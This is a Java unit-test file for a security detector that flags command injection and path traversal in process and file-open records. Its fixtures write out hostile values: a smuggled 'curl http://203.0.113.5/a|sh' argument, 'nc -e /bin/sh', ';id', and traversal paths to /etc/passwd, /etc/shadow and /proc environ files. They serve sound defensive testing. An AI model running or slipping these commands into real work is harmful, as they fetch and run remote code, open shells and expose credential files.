package dev.twinlane.router;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;

import dev.twinlane.detector.DetectionRules;
import dev.twinlane.detector.Finding;
import dev.twinlane.detector.ThreatClass;
import dev.twinlane.ingest.RecordJson;
import dev.twinlane.records.DetectionField;
import dev.twinlane.records.RecordKind;
import dev.twinlane.records.RecordLayout;
import dev.twinlane.records.RecordView;
import dev.twinlane.records.SyntheticRecords;

/** A flagged record is followed by its detection record; clean records pass alone. */
class DetectingPublisherTest {
    private static final DetectionRules RULES = DetectionRules.builtin();
    private final SyntheticRecords synthetic = new SyntheticRecords(7);

    @Test
    void aFlaggedExecIsFollowedByItsDetectionRecord() {
        Collected lane = new Collected();
        List<String> tapped = new ArrayList<>();
        DetectingPublisher p = new DetectingPublisher(lane, RULES, r -> tapped.add(RecordJson.render(r)));
        byte[] clean = synthetic.exec(100, "/usr/bin/ls", "ls", "-la", "/tmp");
        byte[] hostile = synthetic.exec(101, "/bin/true", "true", "--name", "x;%20curl http://203.0.113.5/a|sh");
        p.publish(new RecordView().wrap(clean, 0, clean.length));
        p.publish(new RecordView().wrap(hostile, 0, hostile.length));

        assertEquals(3, lane.records.size(), "clean exec, hostile exec, its detection");
        assertTrue(Arrays.equals(hostile, lane.records.get(1)), "the subject unchanged, first");
        RecordView d = lane.view(2);
        assertEquals(RecordView.OK, d.check());
        assertEquals(RecordKind.DETECTION, d.kind());
        RecordView subject = lane.view(1);
        for (String header : List.of("ktime_ns", "start_ns", "tgid", "tid", "uid", "cgroup_id")) {
            assertEquals(subject.number(header), d.number(header), header + " copied from the subject");
        }
        assertEquals(subject.text("comm"), d.text("comm"));
        assertEquals(RecordKind.EXEC.code(), d.number("subject_kind"));
        assertEquals(DetectionField.EXEC_ARGS.code(), d.number("field"));
        assertEquals(ThreatClass.COMMAND_INJECTION.code(), d.number("threat_class"));
        assertEquals(2, d.number("arg_index"));
        String args = new String(hostile, RecordLayout.EXEC.field("args").offset(), 64, java.nio.charset.StandardCharsets.UTF_8);
        int start = (int) d.number("span_start");
        String span = args.substring(start, start + (int) d.number("span_len"));
        assertTrue(span.startsWith("%20curl") || span.startsWith("curl"), span);
        assertTrue(d.text("evidence").startsWith("curl http://203.0.113.5/a|sh"), d.text("evidence"));
        assertEquals("download-pipe-shell", d.text("rule"));

        assertEquals(1, tapped.size(), "the tap sees the detection record (the router taps subjects itself)");
        String json = tapped.get(0);
        assertTrue(json.startsWith("{\"kind\":\"detection\",\"ring\":\"security\"") && json.contains("\"subject_kind\":\"exec\"")
                && json.contains("\"field\":\"exec_args\"") && json.contains("\"threat_class\":\"command_injection\"")
                && json.contains("\"subject_ring\":\"security\""), json);
    }

    @Test
    void pathsAndCommsAreScannedAndRecordsWithoutStringsPass() {
        Collected lane = new Collected();
        DetectingPublisher p = new DetectingPublisher(lane, RULES, r -> { });
        byte[] open = synthetic.fileOpen(5, "/srv/watched/..%2f..%2f..%2fetc%2fpasswd", 0, 0);
        byte[] fork = synthetic.record(RecordKind.FORK, 6, "comm", ";id");
        byte[] bpf = synthetic.record(RecordKind.BPF, 7);
        for (byte[] r : List.of(open, fork, bpf)) {
            p.publish(new RecordView().wrap(r, 0, r.length));
        }
        assertEquals(5, lane.records.size());
        assertEquals(DetectionField.FILE_PATH.code(), lane.view(1).number("field"));
        assertEquals(ThreatClass.PATH_TRAVERSAL.code(), lane.view(1).number("threat_class"));
        assertEquals("/srv/watched/".length(), lane.view(1).number("span_start"));
        assertEquals(DetectionField.COMM.code(), lane.view(3).number("field"));
        assertEquals(1, lane.view(3).number("subject_ring"), "a fork comes from the observability ring");
        assertEquals(RecordKind.BPF, lane.view(4).kind());
    }

    @Test
    void aProcessOpeningItsOwnProcEntriesIsNoPathTraversal() {
        RecordStrings strings = new RecordStrings(RULES);
        Finding f = new Finding();
        int tgid = 4242;
        // each is a path traversal as a string (an argument): the exemption is the open's, not the rules'
        for (String own : List.of("/proc/self/environ", "/proc/self/maps", "/proc/4242/environ")) {
            byte[] b = own.getBytes(java.nio.charset.StandardCharsets.UTF_8);
            assertTrue(strings.detector().scan(b, 0, b.length, f) && f.threatClass() == ThreatClass.PATH_TRAVERSAL, own);
            byte[] open = synthetic.fileOpen(tgid, own, 0, 0);
            assertNull(strings.scan(new RecordView().wrap(open, 0, open.length), f), own + " opened by its own process");
        }
        for (String other : List.of("/proc/4243/environ", "/proc/self/../../etc/shadow", "/proc/42420/environ")) {
            byte[] open = synthetic.fileOpen(tgid, other, 0, 0);
            assertEquals(DetectionField.FILE_PATH, strings.scan(new RecordView().wrap(open, 0, open.length), f), other);
            assertEquals(ThreatClass.PATH_TRAVERSAL, f.threatClass(), other);
        }
        assertEquals(3, strings.reported(ThreatClass.PATH_TRAVERSAL), "what the metrics count: the findings reported");
    }

    @Test
    void aPathOpenedAgainIsJudgedAsBefore() {
        RecordStrings strings = new RecordStrings(RULES);
        Finding f = new Finding();
        for (int round = 0; round < 3; round++) {
            // exempt for its own process only: the exemption must not be remembered as a clean path
            assertNull(scanOpen(strings, 4242, "/proc/4242/environ", f), "round " + round);
            assertEquals(DetectionField.FILE_PATH, scanOpen(strings, 4243, "/proc/4242/environ", f), "round " + round);
            assertNull(scanOpen(strings, 4243, "/usr/lib/x86_64-linux-gnu/libc.so.6", f), "round " + round);
            assertEquals(DetectionField.FILE_PATH, scanOpen(strings, 5, "/srv/w/..%2f..%2f..%2fetc%2fpasswd", f), "round " + round);
            // same length as a remembered clean path, one byte apart
            assertEquals(DetectionField.FILE_PATH, scanOpen(strings, 5, "/srv/w/..%2f..%2f..%2fetc%2fshadow", f), "round " + round);
            assertNull(scanOpen(strings, 5, "/srv/www/html/assets/logo-big1.png", f), "round " + round);
        }
        assertEquals(9, strings.reported(ThreatClass.PATH_TRAVERSAL));
    }

    @Test
    void cleanPathsMatchWholePathsOnly() {
        CleanPaths c = new CleanPaths();
        byte[] a = "/etc/ld.so.cache".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        byte[] b = "/etc/ld.so.cachf".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        byte[] longer = ("/" + "x".repeat(CleanPaths.MAX)).getBytes(java.nio.charset.StandardCharsets.US_ASCII);
        c.add(a, a.length, CleanPaths.hash(a, a.length));
        c.add(longer, longer.length, CleanPaths.hash(longer, longer.length));
        assertTrue(c.contains(a, a.length, CleanPaths.hash(a, a.length)));
        assertTrue(!c.contains(b, b.length, CleanPaths.hash(b, b.length)), "another path");
        assertTrue(!c.contains(a, a.length - 1, CleanPaths.hash(a, a.length - 1)), "a prefix");
        assertTrue(!c.contains(a, a.length, CleanPaths.hash(b, b.length)), "the same bytes are compared, whatever the slot says");
        assertTrue(!c.contains(longer, longer.length, CleanPaths.hash(longer, longer.length)), "too long to remember");
    }

    private DetectionField scanOpen(RecordStrings strings, int tgid, String path, Finding f) {
        byte[] open = synthetic.fileOpen(tgid, path, 0, 0);
        return strings.scan(new RecordView().wrap(open, 0, open.length), f);
    }

    @Test
    void anObservabilityRecordWithAHostileCommIsPromoted() {
        Promotion promotion = new Promotion(List.of());
        promotion.detectComm(new RecordStrings(RULES));
        byte[] clean = synthetic.record(RecordKind.EXIT, 8, "comm", "bash");
        byte[] hostile = synthetic.record(RecordKind.EXIT, 9, "comm", "a|nc -e /bin/sh");
        promotion.offer(new RecordView().wrap(clean, 0, clean.length));
        promotion.offer(new RecordView().wrap(hostile, 0, hostile.length));
        Collected lane = new Collected();
        promotion.drainTo(new DetectingPublisher(lane, RULES, r -> { }));
        assertEquals(2, lane.records.size(), "the hostile exit and its detection");
        assertTrue(Arrays.equals(hostile, lane.records.get(0)));
        assertEquals(RecordKind.DETECTION, lane.view(1).kind());
        assertEquals(1, promotion.promoted());
    }

    @Test
    void aCleanRecordAllocatesNothingOnceWarm() {
        RecordStrings strings = new RecordStrings(RULES);
        byte[] exec = synthetic.exec(100, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java", "-Xmx1g", "-jar",
                "/opt/app/app.jar", "--spring.profiles.active=prod");
        RecordView v = new RecordView().wrap(exec, 0, exec.length);
        Finding f = new Finding();
        for (int i = 0; i < 20_000; i++) {
            assertNull(strings.scan(v, f));
        }
        com.sun.management.ThreadMXBean mx = (com.sun.management.ThreadMXBean) java.lang.management.ManagementFactory.getThreadMXBean();
        long before = mx.getCurrentThreadAllocatedBytes();
        for (int i = 0; i < 10_000; i++) {
            strings.scan(v, f);
        }
        long perScan = (mx.getCurrentThreadAllocatedBytes() - before) / 10_000;
        assertEquals(0, perScan, "bytes allocated per clean exec scanned");
    }
}
